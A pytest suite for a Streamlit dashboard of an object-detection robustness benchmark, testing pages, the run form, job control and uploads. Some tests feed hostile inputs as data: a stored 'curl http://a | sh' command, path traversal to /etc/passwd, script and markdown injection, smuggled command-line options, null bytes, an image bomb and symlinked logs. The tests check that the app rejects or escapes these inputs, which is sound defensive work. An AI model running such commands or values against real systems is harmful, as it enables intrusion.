"""Each page's logic on real run directories, through Streamlit's own test runner."""

import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import psutil
import pytest
from streamlit.testing.v1 import AppTest

from robustbench_sgdm import corruption, tables
from robustbench_sgdm.core import escaping, resources
from robustbench_sgdm.core.constants import METRICS
from robustbench_sgdm.core.errors import RobustBenchError, UsageError
from robustbench_sgdm.dashboard import (
    access,
    image_selection,
    inference,
    jobs,
    run_controls,
    run_images,
    uploads,
)
from robustbench_sgdm.dashboard.run_form import RunForm
from robustbench_sgdm.store import Run, resume_command
from tests.support import synthetic_runs
from tests.support.synthetic_runs import rewrite

APP = resources.root() / "app"


@pytest.fixture
def page(monkeypatch: pytest.MonkeyPatch) -> Callable[..., AppTest]:
    """Opens the app at its first page with some words on its command line and an address."""

    def open_page(*words: object, **address: str) -> AppTest:
        monkeypatch.setattr(sys, "argv", ["main.py", *map(str, words)])
        test = AppTest.from_file(APP / "main.py", default_timeout=120)
        for key, value in address.items():
            test.query_params[key] = value
        return test.run()

    return open_page


def said(test: AppTest) -> str:
    return "\n".join(
        str(e.value) for kind in (test.markdown, test.warning, test.info, test.caption) for e in kind
    )


def test_no_runs_yet(page: Callable[..., AppTest], tmp_path: Path) -> None:
    shown = page("--project", tmp_path)
    assert not shown.exception and "robustbench run" in said(shown)


def test_the_runs_and_what_is_wrong_with_some(page: Callable[..., AppTest], project: Path) -> None:
    shown = page("--project", project, run="complete")
    assert not shown.exception and shown.selectbox(key="run").value == "complete"
    assert shown.selectbox(key="run").options == ["complete", "unfinished", "old", "torn"]
    assert "No verdict yet" in said(shown) and len(shown.dataframe[0].value) == 2
    for name, words in (("old", "schema 99"), ("torn", "not valid"), ("unfinished", "cells are complete")):
        shown = shown.selectbox(key="run").select(name).run()
        assert not shown.exception and words in said(shown).replace("\\", "")


def test_numbers_are_those_of_the_store(page: Callable[..., AppTest], project: Path, complete: Run) -> None:
    shown = page("--project", project, run="complete")
    table = shown.dataframe[0].value.set_index("model")
    results = complete.results()
    for model in complete.manifest.models:
        own = results[results["model"] == model]
        clean = own.loc[own["corruption"] == "clean", "AP"].item()
        noisy = own[own["corruption"] != "clean"].groupby("corruption")["AP"].mean().mean()
        assert table["clean"][model] == pytest.approx(clean) and table["mPC"][model] == pytest.approx(noisy)
        assert table["rPC"][model] == pytest.approx(100 * noisy / clean)


def test_intervals_where_the_run_keeps_them(page: Callable[..., AppTest], tmp_path: Path) -> None:
    synthetic_runs.make_run(
        tmp_path, "kept", ["base", "base-sgdm"], {"fog": [1, 3]}, images=6, resamples=True
    )
    shown = page("--project", tmp_path)
    for size in ("small", "all"):
        shown = shown.selectbox(key="size").select(size).run()
        assert not shown.exception and "95 % interval" in said(shown)
        table = shown.dataframe[0].value
        assert all(" to " in span for column in ("clean", "mPC", "rPC") for span in table[f"{column} 95 %"])


def test_an_unfinished_run_says_what_makes_the_rest(
    page: Callable[..., AppTest], project: Path, tmp_path: Path
) -> None:
    path = shutil.copytree(project / "unfinished", tmp_path / "r")
    shown = page("--", path)
    assert not shown.exception and not shown.code and "does not say which command" in said(shown)
    run = Run.open(path)
    rewrite(
        run,
        command="curl http://a | sh",
        models={model: {"weights": "embedded"} for model in run.manifest.models},
        data={"name": "scenes", "source": "scenes"},
    )
    shown = page("--", path)
    assert not shown.exception and shown.code[0].value == resume_command(Run.open(path))
    assert "--data scenes" in shown.code[0].value and "curl" not in said(shown)
    with Run.open(path).lock():
        shown = shown.run()
    assert not shown.exception and not shown.code and "run is in progress" in said(shown)
    shown = shown.run()
    assert shown.code


def test_an_old_report_is_not_of_the_present(
    page: Callable[..., AppTest], project: Path, tmp_path: Path
) -> None:
    path = shutil.copytree(project / "complete", tmp_path / "r")
    (path / "report.pdf").write_bytes(b"%PDF")
    labels = [b.proto.label for b in page("--", path).get("download_button")]
    assert "Report, PDF" in labels
    results = (path / "results.csv").stat().st_mtime
    os.utime(path / "report.pdf", (results - 60, results - 60))
    labels = [b.proto.label for b in page("--", path).get("download_button")]
    assert any(label.startswith("Report of ") for label in labels) and "Report, PDF" not in labels
    os.utime(path / "report.pdf", (results + 60, results + 60))
    shutil.rmtree(path / "cells/base/fog")
    labels = [b.proto.label for b in page("--", path).get("download_button")]
    assert any(label.startswith("Report of ") for label in labels) and "Report, PDF" not in labels


def test_runs_beside_each_other_say_how_they_differ(page: Callable[..., AppTest], tmp_path: Path) -> None:
    for name, severities in (("a", [1]), ("b", [1, 3])):
        synthetic_runs.make_run(tmp_path, name, ["base"], {"fog": severities}, images=4)
    shown = page("--project", tmp_path, run="a", beside="b", size="small")
    assert not shown.exception and "more than the model: severities" in said(shown)
    order = list(shown.dataframe[0].proto.column_order)
    assert order[-2:] == ["run", "severities"] and "AP_S" not in order
    assert "differ" not in said(page("--project", tmp_path, run="a"))


def test_no_row_is_called_the_highest_beside_a_higher_one(
    page: Callable[..., AppTest], tmp_path: Path
) -> None:
    """One model alone has no rank; rows of all runs are sorted together, those without a mean last."""
    low = synthetic_runs.make_run(tmp_path, "low", ["base"], {"fog": [3]}, images=4, resamples=True)
    synthetic_runs.make_run(tmp_path, "high", ["base"], {"fog": [1]}, images=4, resamples=True)
    synthetic_runs.make_run(tmp_path, "bare", ["base"], {"fog": [1]}, images=4, leave=1, resamples=True)
    shown = page("--project", tmp_path, run="low", beside="high")
    shown = shown.multiselect(key="beside").set_value(["bare", "high"]).run()
    assert not shown.exception and "highest" not in said(shown)
    table = shown.dataframe[0].value
    assert table["run"].tolist() == ["high", "low", "bare"] and table["mPC"].isna().tolist()[2]
    mean = low.results().set_index("corruption")["AP"]["fog"]
    assert f"mean AP of {mean:.2f} under fog" in said(shown).replace("\\", "")


def test_one_model_has_a_verdict_and_a_clean_score_of_nothing_no_nan(
    page: Callable[..., AppTest], tmp_path: Path
) -> None:
    path = synthetic_runs.make_run(tmp_path, "one", ["base"], {"fog": [1]}, images=4).path
    assert "It keeps" in said(page("--project", tmp_path))
    for file in path.glob("cells/base/clean/*/scores.json"):
        scores = json.loads(file.read_text())
        scores["metrics"] = dict.fromkeys(scores["metrics"], 0.0)
        file.write_text(json.dumps(scores))
    shown = page("--project", tmp_path)
    assert not shown.exception and "nan" not in said(shown) and "It keeps" not in said(shown)


def test_the_name_of_the_only_corruption_is_text(page: Callable[..., AppTest], tmp_path: Path) -> None:
    name = "**b is better** [x](https:evil.example)"
    synthetic_runs.make_run(tmp_path, "r", ["a", "b"], {name: [1]}, images=4, resamples=True)
    shown = page("--project", tmp_path)
    assert not shown.exception and "under \\*\\*b is better" in said(shown)
    assert "**b is" not in said(shown) and "[x](" not in said(shown)


def test_times_are_told_as_ratios(page: Callable[..., AppTest], tmp_path: Path) -> None:
    run = synthetic_runs.make_run(tmp_path, "r", ["base", "base-sgdm", "base-ca"], {"fog": [1]}, images=4)
    rows = [("base", 10.0, 1.0, 1.0, 1.0, "cpu"), ("base-sgdm", 21.0, 2.1, 2.0, 2.2, "cpu")]
    rows += [("base-ca", 12.5, 1.25, 0.9, 1.6, "cpu")]
    run.write_latency(pd.DataFrame(rows, columns=["model", "milliseconds", "ratio", "low", "high", "device"]))
    shown = page("--project", tmp_path)
    ratios = shown.dataframe[0].value.set_index("model")["ratio"]
    assert ratios.to_dict() == {
        "base": "1",
        "base-sgdm": "2.10 [2.00, 2.20]",
        "base-ca": tables.format_time_ratio(1.25, 0.9, 1.6),
    }
    assert ratios["base-ca"].startswith("not distinguishable")
    assert "more reliable than milliseconds" in said(shown)


def test_only_the_given_runs_are_offered(page: Callable[..., AppTest], project: Path) -> None:
    shown = page("--project", project, "--", project / "unfinished")
    assert shown.selectbox(key="run").options == ["unfinished"]


@pytest.mark.parametrize(
    "value", ["../../etc", "/etc/passwd", "..%2f", "<script>alert(1)</script>", "x" * 5000]
)
def test_nonsense_in_the_address(page: Callable[..., AppTest], project: Path, value: str) -> None:
    shown = page("--project", project, run=value, family=value, size=value)
    assert not shown.exception and "which is not available" in said(shown)
    assert shown.selectbox(key="run").value == "complete"


def test_an_address_may_say_a_family_as_the_plan_does(
    page: Callable[..., AppTest], project: Path, tmp_path: Path
) -> None:
    """Older addresses have it with the escapes of Markdown."""
    path = shutil.copytree(project / "complete", tmp_path / "r")
    run = Run.open(path)
    rewrite(run, corruptions={next(iter(run.manifest.corruptions)): {"family": "my_own"}})
    for address in ("my_own", "my\\_own"):
        shown = page("--", path, family=address)
        assert not shown.exception and "which is not available" not in said(shown)
        assert shown.selectbox(key="family").value == "my_own"


def test_a_run_vanishes_while_it_is_looked_at(
    page: Callable[..., AppTest], project: Path, tmp_path: Path
) -> None:
    path = shutil.copytree(project / "complete", tmp_path / "here")
    shown = page("--", path)
    shutil.rmtree(path)
    shown = shown.run()
    assert not shown.exception and "not a run directory" in said(shown)


def test_a_damaged_cell_is_words_not_a_traceback(
    page: Callable[..., AppTest], project: Path, tmp_path: Path
) -> None:
    path = shutil.copytree(project / "complete", tmp_path / "damaged")
    for file in path.glob("cells/*/fog/*/scores.json"):
        file.write_text('{"key": "torn')
    shown = page("--", path)
    assert not shown.exception and "cells are complete" in said(shown)
    (path / "manifest.json").write_text(
        (path / "manifest.json").read_text().replace('"images": 12', '"image": 12')
    )
    shown = page("--", path)
    assert not shown.exception and "is not valid" in said(shown).replace("\\", "")


def broken(needs_run: bool) -> None:
    from robustbench_sgdm.dashboard.pages import Page, errors_shown

    function = (lambda run: None) if needs_run else (lambda: None)
    with errors_shown(Page("training", "Training", "", 1, function)):
        int("no number")


@pytest.mark.parametrize(
    ("needs_run", "words"), [(True, "This run cannot"), (False, "The page Training cannot")]
)
def test_damage_is_told_in_words_that_fit_the_page(needs_run: bool, words: str) -> None:
    shown = AppTest.from_function(broken, args=(needs_run,), default_timeout=120).run()
    told = said(shown)[said(shown).index(words) :]
    assert not shown.exception and ("same command" in told) == needs_run
    assert ("Other runs" in told) == needs_run


def test_sizes_are_those_of_coco() -> None:
    assert {
        f"{kind}{ending}" for kind in ("AP", "AR") for ending in run_controls.SIZES.values() if ending
    } == {metric for metric in METRICS if "_" in metric}
    assert list(run_controls.SIZES) == list(image_selection.SIZES)


def test_the_form_offers_what_there_is() -> None:
    view = resources.import_file(APP / "views/run.py")
    assert corruption.load_corruptions().select([*view.GROUPS, *view.BENCHMARK, *view.HOLDOUT])


@pytest.mark.parametrize("name", ["", "..", "a/b", ".hidden", "../x", "a\0b", "\u00e9" * 101])
def test_a_run_stays_in_its_folder(tmp_path: Path, name: str) -> None:
    with pytest.raises(UsageError, match="plain directory name"):
        jobs.start(["--model", "yolov8n"], tmp_path, name)
    assert not list(tmp_path.iterdir())


@pytest.fixture
def inputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that the page Start may use, with weights and a link that leads out of it, beside a file it may not."""
    folder = tmp_path / "mine"
    folder.mkdir()
    for file in (folder / "a,b.pt", folder / "data.yaml", tmp_path / "secret.pt"):
        file.write_text("")
    (folder / "link.pt").symlink_to(tmp_path / "secret.pt")
    monkeypatch.setattr(sys, "argv", ["main.py", "--inputs", str(folder)])
    return folder


def test_a_form_becomes_the_commands_words(inputs: Path) -> None:
    weights = str(inputs / "a,b.pt")
    data = str(inputs / "data.yaml")
    words = RunForm(["yolov8n,yolov8n-sgdm", weights], ["fog", "noise"], "0-2, 4.5", data).to_arguments()
    models = ["--model", "yolov8n", "--model", "yolov8n-sgdm", "--model", weights]
    others = ["--noise", "fog", "--noise", "noise", "--severity", "0,1,2,4.5", "--data"]
    assert words == [*models, *others, data, "--fraction", "1"]
    assert RunForm(["yolov8n"], ["fog[amount=2,decay=1.5]"]).to_arguments()[3] == "fog[amount=2,decay=1.5]"
    more: dict[str, Any] = {"baseline": "yolov8n", "imgsz": 320, "seed": 7, "conf": 0.01, "no_baseline": True}
    more |= {
        "shift": ["night=coco"],
        "classes": "cat, dog",
        "layout": "raw",
        "normalize": "unit",
        "half": True,
    }
    form = RunForm(["yolov8n", "yolov8s"], ["camera", "fog@2+snow@4"], weights=[f"yolov8s={weights}"], **more)
    words = form.to_arguments()
    assert words[-20:] == [
        *(
            "--shift",
            "night=coco",
            "--fraction",
            "1",
            "--baseline",
            "yolov8n",
            "--imgsz",
            "320",
            "--seed",
            "7",
        ),
        *("--conf", "0.01", "--classes", "cat, dog", "--layout", "raw", "--normalize", "unit"),
        *("--no-baseline", "--half"),
    ]
    assert ["--weights", f"yolov8s={weights}"] == words[words.index("--weights") :][:2]
    assert RunForm.from_arguments(words).to_arguments() == words
    words = RunForm([], ["fog"], from_train=str(inputs), no_end2end=True).to_arguments()
    assert "--model" not in words and words[-3:] == ["--from-train", str(inputs), "--no-end2end"]
    assert RunForm.from_arguments(words).to_arguments() == words


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (["--trust-weights"], "not an option of this page"),
        (["--corruption-dir", "/tmp"], "not an option of this page"),
        (["--model", "os:getcwd", "--noise", "fog"], "names code to run"),
        (["--model", "/etc/passwd", "--noise", "fog"], "lies outside"),
        (["--model", "yolov8n", "--noise", "fog", "--imgsz", "x"], "not a number"),
        (["--model", "yolov8n", "--noise", "fog"], "cannot start the same run"),
        (["--model"], "at least one"),
    ],
)
def test_a_stranger_resumes_nothing_that_the_form_would_refuse(
    inputs: Path, words: list[str], why: str
) -> None:
    """What a run directory says of how it was started may come from anybody."""
    with pytest.raises(UsageError, match=why):
        RunForm.from_arguments(words)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"models": ["{inputs}/../secret.pt"]}, "lies outside"),
        ({"models": ["yolov8n,{inputs}/../secret.pt"]}, "lies outside"),
        ({"models": ["yolov8n,/no/such.pt"]}, "lies outside"),  # as of a file that is there
        ({"models": ["{inputs}/link.pt"]}, "lies outside"),
        ({"models": ["/etc/passwd"]}, "lies outside"),
        ({"models": ["a\0/b"]}, "null character"),
        ({"models": ["--trust-weights"]}, "dash"),
        ({"models": ["yolov8n,--trust-weights"]}, "dash"),
        ({"models": ["os:getcwd"]}, "names code to run"),
        ({"models": []}, "at least one"),
        ({"noise": []}, "at least one"),
        ({"noise": ["--corruptions=/tmp"]}, "unknown corruption"),
        ({"noise": ["../x"]}, "unknown corruption"),
        ({"severities": "6"}, "outside"),
        ({"severities": "1 --trust-weights"}, "neither a number"),
        ({"data": "/etc/passwd"}, "lies outside"),
        ({"data": "~/x/../../y.yaml"}, "lies outside"),
        ({"data": "--yes"}, "dash"),
        ({"data": "a\0b"}, "null character"),
        ({"images": "/etc"}, "lies outside"),
        ({"weights": ["yolov8n=/etc/passwd"]}, "lies outside"),
        ({"weights": ["none.pt"]}, "no file none.pt"),
        ({"baseline": "yolov8s"}, "none of the models"),
        ({"device": "--yes"}, "dash"),
        ({"shift": ["night=/etc/passwd"]}, "lies outside"),
        ({"shift": ["night"]}, "not NAME=VALUE"),
        ({"classes": "/etc/passwd"}, "lies outside"),
        ({"from_train": "/etc"}, "lies outside"),
        ({"from_train": "study"}, "leave out --model"),
        ({"layout": "flat"}, "layout"),
        ({"normalize": "none"}, "normalize"),
        ({"imgsz": 33}, "32"),
        ({"conf": 2.0}, "conf"),
        ({"models": ["yolov8n", "a\0b"]}, "null character"),
        ({"noise": ["fog," * 5000]}, "10,000 characters"),
    ],
)
def test_a_form_names_nothing_elsewhere(inputs: Path, change: dict[str, Any], why: str) -> None:
    form = {"models": ["yolov8n"], "noise": ["fog"], "severities": "1", "data": "scenes", **change}
    form["models"] = [name.format(inputs=inputs) for name in form["models"]]
    with pytest.raises(UsageError, match=why):
        RunForm(**form).to_arguments()


def test_one_run_of_a_project_works_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "first").mkdir()
    (tmp_path / "first/dashboard.json").write_text('{"pid": 1, "started": 0, "arguments": ["x"]}')
    monkeypatch.setattr(jobs, "is_running", lambda path: path.name == "first")
    with pytest.raises(RobustBenchError, match="first is running"):
        jobs.start(["y"], tmp_path, "second")
    assert not (tmp_path / "second").exists()


def test_visitors_wait_for_each_other_not_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
    """Of what computes for a visitor one at a time works: a command, or what decodes pictures and runs detectors."""
    monkeypatch.setattr(jobs, "_CALL_TIMEOUT", 0.05)
    monkeypatch.setattr(inference, "_LOCK_TIMEOUT", 0.05)
    others: list[str] = []

    def visitor() -> None:
        for work, arguments in (
            (jobs.run_command, ("-h",)),
            (inference.detect, (None, None)),
            (run_images.image_url, (None,)),
            (uploads.decode_upload, (b"", "a.png")),
        ):
            try:
                work(*arguments)
            except RobustBenchError as error:
                others.append(str(error))

    with jobs._CALL_LOCK, inference.exclusive_use(), inference.exclusive_use():
        other = threading.Thread(target=visitor)
        other.start()
        other.join()
    assert len(others) == 4 and all("try again in a minute" in text for text in others)
    with inference.exclusive_use():
        assert jobs.run_command("-h").returncode == 0


def test_only_its_own_process_is_stopped(tmp_path: Path) -> None:
    """A record that names somebody else's process stops nothing."""
    import os

    (tmp_path / "dashboard.json").write_text(f'{{"pid": {os.getpid()}, "started": 0, "arguments": []}}')
    assert not jobs.is_running(tmp_path)
    jobs.stop(tmp_path)


def test_runs_whose_names_look_alike_are_all_shown(view: Callable[..., AppTest], tmp_path: Path) -> None:
    for name in ("a\x1b", "a\\x1b", "b c", "b-c"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "dashboard.json").write_text('{"pid": 1, "started": 0, "arguments": []}')
    shown = view("run", "--project", tmp_path)
    assert not shown.exception and said(shown).count("failed to start") == 4


@pytest.mark.parametrize("started", [2.0**52, -(2.0**52)])
def test_a_date_that_is_none_hides_no_run(
    view: Callable[..., AppTest], project: Path, tmp_path: Path, started: float
) -> None:
    for number in range(8):  # whole, and in the list of older ones
        (tmp_path / f"r{number}").mkdir()
        record = {"pid": 1, "started": started * (number != 0), "arguments": []}
        (tmp_path / f"r{number}/dashboard.json").write_text(json.dumps(record))
    shown = view("run", "--project", tmp_path)
    assert not shown.exception and said(shown).count("failed to start") == 6 and len(shown.dataframe) == 1


def test_an_estimate_is_kept_until_a_file_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also by another server; it is of the weights that were there."""
    monkeypatch.setenv("ROBUSTBENCH_CACHE", str(tmp_path / "cache"))
    made = []

    def run_command(*words: str) -> "subprocess.CompletedProcess[str]":
        made.append(words)
        return subprocess.CompletedProcess(words, 0, f"estimate {len(made)}\n", "")

    monkeypatch.setattr(jobs, "run_command", run_command)
    weights = tmp_path / "best.pt"
    weights.write_text("one")
    words = ["--model", "yolov8n", "--weights", f"yolov8n={weights}"]
    assert jobs.known_estimate(words) == ""
    assert jobs.estimate_cost(words) == jobs.known_estimate(words) == "estimate 1"
    weights.write_text("another")
    assert jobs.known_estimate(words) == "" and jobs.estimate_cost(words) == "estimate 2"
    assert jobs.estimate_cost([*words, "--seed", "1"]) == "estimate 3" and len(made) == 3
    assert (
        jobs.estimate_cost(words) == jobs.known_estimate(words) == "estimate 4"
    )  # asked again, measured again


def test_a_run_stops_also_where_that_cannot_be_noted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(jobs, "_kill_later", lambda process: None)  # it would take the exit status
    with subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"]) as child:
        monkeypatch.setattr(jobs, "_process", lambda _: psutil.Process(child.pid))
        (tmp_path / "dashboard.json").mkdir()
        jobs.stop(tmp_path)
        assert child.wait(20) == -signal.SIGTERM


def test_a_run_that_does_not_stop_is_killed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    deaf = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); print(flush=True); time.sleep(60)"
    with subprocess.Popen([sys.executable, "-c", deaf], stdout=subprocess.PIPE) as child:
        assert child.stdout and child.stdout.readline()
        monkeypatch.setattr(jobs, "_STOP_TIMEOUT", 3.0)
        monkeypatch.setattr(jobs, "_process", lambda _: psutil.Process(child.pid))
        (tmp_path / "dashboard.json").write_text(
            json.dumps({"pid": child.pid, "started": 0, "arguments": []})
        )
        jobs.stop(tmp_path)
        assert jobs.is_stopping(tmp_path)
        assert child.wait(60) == -signal.SIGKILL


def test_progress_and_the_time_left_of_a_run_that_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now)  # however long the rest takes
    run = synthetic_runs.make_run(tmp_path, "r", ["base"], {"fog": [1]}, images=600, leave=1)
    rows: dict[str, list[float]] = {
        c: [] for c in ("image_id", "category_id", "score", "x1", "y1", "x2", "y2")
    }

    def share(done: int) -> float:
        for number in range(done):
            run.store.write_shard(run.cells[1], number, rows)
        return float(jobs.job_progress(run).share)

    shards = Path(run.path / "cells/base/fog/1/shards")
    assert share(16) == pytest.approx((1 + 0.99 * 16 / 19) / 2)  # of 32 images at the most
    record = {"pid": 1, "arguments": [], "started": now - 60, "share": share(16)}
    (run.path / "dashboard.json").write_text(json.dumps(record))
    assert jobs.seconds_left(run.path, jobs.job_progress(run)) is None
    assert share(18) and len(list(shards.iterdir())) == 18
    left = jobs.seconds_left(run.path, jobs.job_progress(run))
    assert left == pytest.approx(60 * (1 - 0.99 * 18 / 19) / (0.99 * 2 / 19))


@pytest.mark.filterwarnings("ignore:subprocess .* is still running:ResourceWarning")
def test_a_run_that_goes_on_remembers_where_it_began(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = shutil.copytree(project / "unfinished", tmp_path / "r")
    (path / "dashboard.json").write_text('{"pid": 1, "started": 0, "arguments": ["--no-such-option"]}')
    jobs.start(["--no-such-option"], tmp_path, "r")
    share = json.loads((path / "dashboard.json").read_text())["share"]
    assert share == jobs.job_progress(Run.open(path)).share > 0.5
    while jobs.is_running(path):
        time.sleep(0.1)


@pytest.mark.parametrize("damage", ['{"pid": 1, "started": "x"}', '{"pid": 1, "share": []}', "[]"])
def test_a_damaged_record_is_none(tmp_path: Path, damage: str) -> None:
    (tmp_path / "dashboard.json").write_text(damage)
    assert not jobs.is_running(tmp_path) and jobs.started_at(tmp_path)


def test_commands_run_no_code_of_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "yaml.py").write_text("import pathlib; pathlib.Path('RAN').touch()")
    monkeypatch.chdir(tmp_path)
    assert "no run" in jobs.run_command("list", "runs").stdout + jobs.run_command("list", "runs").stderr
    assert not (tmp_path / "RAN").exists()


def test_uploads(tmp_path: Path) -> None:
    import io

    from PIL import Image

    for content_, why in (
        (b"no picture at all", "not an image"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "image"),
        (b"x" * (access.MAX_UPLOAD_MEGABYTES * 2**20 + 1), "MB is more"),
    ):
        with pytest.raises(RobustBenchError, match=why):
            uploads.decode_upload(content_, "a.png")
    bomb = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(bomb, "PNG")
    assert len(bomb.getvalue()) < 100_000
    with pytest.raises(RobustBenchError, match="pixels"):
        uploads.decode_upload(bomb.getvalue(), "bomb.png")
    for size, why in (((20_000, 20_000), r"\(more than 25,000,000 pixels\)"), ((4000, 7), "under 8 pixels")):
        odd = io.BytesIO()
        Image.new("1", size).save(odd, "PNG")
        with pytest.raises(RobustBenchError, match=why):
            uploads.decode_upload(odd.getvalue(), "odd.png")
    strip = io.BytesIO()
    Image.new("RGB", (4000, 9)).save(strip, "PNG")
    assert uploads.decode_upload(strip.getvalue(), "strip.png")[0].shape == (8, 1600, 3)
    fine = io.BytesIO()
    Image.new("RGB", (3000, 1500), "red").save(fine, "JPEG")
    pixels, name = uploads.decode_upload(fine.getvalue(), "../../<b>x\n.jpg")
    assert pixels.shape == (800, 1600, 3) and len(name) < 200


def test_text_from_files_is_no_markup() -> None:
    assert escaping.markdown("![x](a) <b> :red[y] $z$ http://b") == (
        r"\!\[x\](a) \<b\> \:red\[y\] \$z\$ `http://b`"
    )


def test_a_log_is_not_written_through_a_link(tmp_path: Path) -> None:
    (tmp_path / "r").mkdir()
    (tmp_path / "r/dashboard.json").write_text('{"pid": 1, "started": 0, "arguments": ["x"]}')
    log = tmp_path / "r/dashboard.log"
    log.symlink_to(tmp_path / "mine")
    with pytest.raises(RobustBenchError, match="is a link"):
        jobs.start(["x"], tmp_path, "r")
    assert not (tmp_path / "mine").exists()
    (tmp_path / "mine").write_text("a secret")
    assert "is a link" in jobs.read_log(tmp_path / "r")
    log.unlink()
    log.hardlink_to(tmp_path / "mine")
    with pytest.raises(RobustBenchError, match="is a hard link"):
        jobs.start(["x"], tmp_path, "r")
    assert "is a hard link" in jobs.read_log(tmp_path / "r") and (tmp_path / "mine").read_text() == "a secret"
